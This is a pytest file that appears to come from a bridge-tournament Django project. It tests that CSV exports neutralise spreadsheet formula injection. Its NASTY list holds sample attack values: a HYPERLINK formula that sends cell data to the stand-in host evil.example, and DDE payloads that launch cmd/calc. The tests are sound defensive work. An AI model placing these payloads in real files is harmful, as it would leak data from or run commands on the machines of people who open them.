"""Spreadsheet formula injection: every CSV the project writes neutralises text cells that
start with ``= + - @``, a tab or a CR (a leading ``'``), and leaves numbers numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse

from scoring.standings.services import recompute_standings
from tournament.interchange.formats.csv_io import (
    safe_cell,
    standings_csv,
    teams_csv,
    travellers_csv,
)
from tournament.models import Player

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"win")'
NASTY = [EVIL, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "\tx", "\r=1"]


@pytest.mark.parametrize("text", NASTY)
def test_a_formula_becomes_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-3", "-1370", "+2.5", "56.25", "-0.5", "1e3", "-.5", 7, -3,
                                   2.5, "Ada Lovelace", "", "3 NT", "'=already quoted"])  # fmt: skip
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", ["-", "+", "-3-", "--3", "-3e", "- 3", "=1", "+1+1"])
def test_almost_numbers_are_text(value):
    assert safe_cell(value) == "'" + value


def _rows(text):
    return list(csv.reader(io.StringIO(text)))


def _standings(name):
    return {
        "name": "A",
        "fields": [{"name": "NS", "standings": [
            {"rank": "1", "entry": 1, "name": name, "score": "-1370", "percent": 56.25,
             "boards_played": 3}]}],
        "boards": [{"board": 1, "results": [
            {"ns": 1, "ew": 2, "contract": "=4S", "declarer": "@N", "tricks": 10,
             "score_ns": "-620", "ns_points": "+2.5", "ew_points": -2.5, "adjusted": ""}]}],
    }  # fmt: skip


def test_the_standings_and_travellers_writers():
    rows = _rows(standings_csv(_standings(EVIL)))
    assert rows[1] == ["NS", "1", "1", "'" + EVIL, "-1370", "56.25", "3"]
    rows = _rows(travellers_csv(_standings(EVIL)))
    assert rows[1] == ["1", "1", "2", "'=4S", "'@N", "10", "-620", "+2.5", "-2.5", "", ""]


def test_the_teams_writer():
    team = {"rank": "1", "team": 1, "name": EVIL, "pairs": [], "tricks": 0, "aggregate": -3,
            "margin": "-3", "result": "=lost", "winner": False, "odd_pair_credit": None}  # fmt: skip
    text = teams_csv({"team_match": {"teams": [team]}, "fields": []})
    row = dict(zip(*_rows(text)[:2], strict=True))
    assert row["name"] == "'" + EVIL and row["result"] == "'=lost"
    assert row["aggregate"] == "-3" and row["margin"] == "-3"


@pytest.fixture
def evil_night(night):
    player = Player.objects.get(name="Player 0")
    player.name = EVIL
    player.save()
    recompute_standings(night.session)
    return night


def _evil_row(rows):
    (row,) = [r for r in rows if any(EVIL in cell for cell in r)]
    return row


def test_the_standings_command_csv(evil_night, capsys):
    call_command("standings", str(evil_night.session.pk), "--format", "csv")
    rows = _rows(capsys.readouterr().out)
    evil = [c for c in _evil_row(rows) if EVIL in c]
    assert evil and all(c.startswith("'" + EVIL) for c in evil)
    assert not any(cell.startswith(("=", "@")) for r in rows for cell in r)


def test_the_standings_command_travellers_keep_negative_scores(evil_night, capsys):
    call_command("standings", str(evil_night.session.pk), "--format", "csv", "--travellers")
    rows = _rows(capsys.readouterr().out)
    scores = [r[6] for r in rows[1:] if len(r) > 6 and r[6]]
    assert any(s.startswith("-") for s in scores)  # 3NT one down: N-S -50
    for s in scores:
        float(s)  # every score still reads as a number, none quoted


@pytest.mark.parametrize("url_name", ["td_standings", "td_travellers", "td_scorecard"])
def test_the_console_csv_exports(url_name, evil_night, client, director):
    client.force_login(director)
    args = {"td_standings": [evil_night.session.pk], "td_travellers": [evil_night.section.pk],
            "td_scorecard": [evil_night.section.pk, 1]}[url_name]  # fmt: skip
    response = client.get(reverse(url_name, args=args) + "?_export=csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = _rows(response.content.decode())
    cells = [cell for r in rows for cell in r]
    assert not any(cell.startswith(("=", "@", "\t", "\r")) for cell in cells)
    for cell in cells:
        if cell.startswith(("+", "-")):
            float(cell)  # a signed cell is a number, never a formula
    if url_name == "td_standings":
        assert any(cell.startswith("'" + EVIL) for cell in cells)
